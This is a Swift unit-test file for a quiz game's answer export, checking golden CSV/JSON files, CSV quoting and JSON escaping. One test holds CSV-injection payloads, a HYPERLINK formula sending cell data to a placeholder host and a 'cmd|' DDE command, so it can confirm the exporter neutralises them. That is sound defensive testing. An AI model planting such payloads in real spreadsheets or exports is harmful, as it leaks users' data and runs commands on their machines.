import Foundation
import Testing
@testable import BuzzerReplay

/// The export formats are a contract with spreadsheets and scripts: a deterministic game must
/// export byte for byte as the golden files. Set BUZZER_UPDATE_GOLDEN=1 to rewrite them after
/// an intended change, and review the diff.
@Suite struct ExportGoldenTests {
    private static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures")

    private func exportedRows() throws -> [AnswerRow] {
        let dir = TemporaryDirectory()
        try writeArchive([PlayedGame.wholeGame()], to: dir.path)
        return try AnswerExport.rows(of: scan(dir.path).game(GameReference(code: "ABCD")))
    }

    private func compare(_ text: String, golden name: String) throws {
        let url = Self.fixtures.appendingPathComponent(name)
        if ProcessInfo.processInfo.environment["BUZZER_UPDATE_GOLDEN"] == "1" {
            try Data(text.utf8).write(to: url)
        }
        let expected = try String(decoding: Data(contentsOf: url), as: UTF8.self)
        #expect(text == expected, "export differs from \(name)")
    }

    @Test func csvExportMatchesTheGoldenFile() throws {
        try compare(AnswerExport.csv(exportedRows()), golden: "export.csv")
    }

    @Test func jsonExportMatchesTheGoldenFile() throws {
        let text = AnswerExport.json(try exportedRows())
        try compare(text, golden: "export.json")
        let parsed = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]]
        #expect(parsed?.count == 24)
        #expect(parsed?.first?["question_text"] as? String == "Capital of Australia?")
    }

    /// RFC 4180 §2: fields with commas, quotes or line breaks are quoted, quotes doubled; lines end in CRLF.
    @Test func csvQuotesOnlyTheFieldsThatNeedIt() {
        #expect(AnswerExport.csvField("plain") == "plain")
        #expect(AnswerExport.csvField("Reds, Inc.") == "\"Reds, Inc.\"")
        #expect(AnswerExport.csvField("Say \"hi\"") == "\"Say \"\"hi\"\"\"")
        #expect(AnswerExport.csvField("two\nlines") == "\"two\nlines\"")
        #expect(AnswerExport.csvField("cr\r\nlf") == "\"cr\r\nlf\"")
        let row = AnswerRow(game: "A@1", round: 1, question: 1, questionText: "Q", player: "P", team: nil, answer: "x",
                            correct: nil, outcome: nil, responseMs: 5, points: 0, runningTotal: 0)
        #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",") + "\r\nA@1,1,1,Q,P,,x,,,5,0,0,true\r\n")
    }

    /// OWASP "CSV Injection": a name, team, answer or question that starts with `=`, `+`, `-`, `@`,
    /// tab or CR is prefixed with `'` so a spreadsheet shows it instead of running it; numbers the
    /// export writes (a lost wager's negative points) and a typed number answer stay numbers.
    @Test func csvDefusesFormulasInTextButKeepsNumbers() {
        let row = AnswerRow(game: "A@1", round: 1, question: 2, questionText: "+1+1 is?", player: "=HYPERLINK(\"http://x/?\"&A1,\"win\")",
                            team: "@SUM(A1:A9)", answer: "-2+3+cmd|' /C calc'!A0", correct: false, outcome: "wrong",
                            responseMs: 1200, points: -250, runningTotal: -250)
        #expect(AnswerExport.csv([row]) == AnswerExport.columns.joined(separator: ",")
            + "\r\nA@1,1,2,'+1+1 is?,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"win\"\")\",'@SUM(A1:A9),'-2+3+cmd|' /C calc'!A0,false,wrong,1200,-250,-250,true\r\n")
        for text in ["=1", "+1x", "-x", "@x", "\tx", "\rx", "\r\nx"] {
            #expect(AnswerExport.csvText(text) == "'" + text, "\(text.debugDescription)")
        }
        for text in ["-40", "+5", "-0.5", "Ada", "a=b", " =1", ""] {
            #expect(AnswerExport.csvText(text) == text, "\(text.debugDescription)")
        }
        #expect(AnswerExport.json([row]).contains(#""player":"=HYPERLINK"#), "JSON is not a spreadsheet: it keeps the text as it is")
    }

    @Test func jsonStringsEscapeControlCharacters() {
        #expect(AnswerExport.string("a\"b\\c\nd\u{1}é") == #""a\"b\\c\nd\u0001é""#)
        #expect(AnswerExport.json([]) == "[]\n")
    }
}
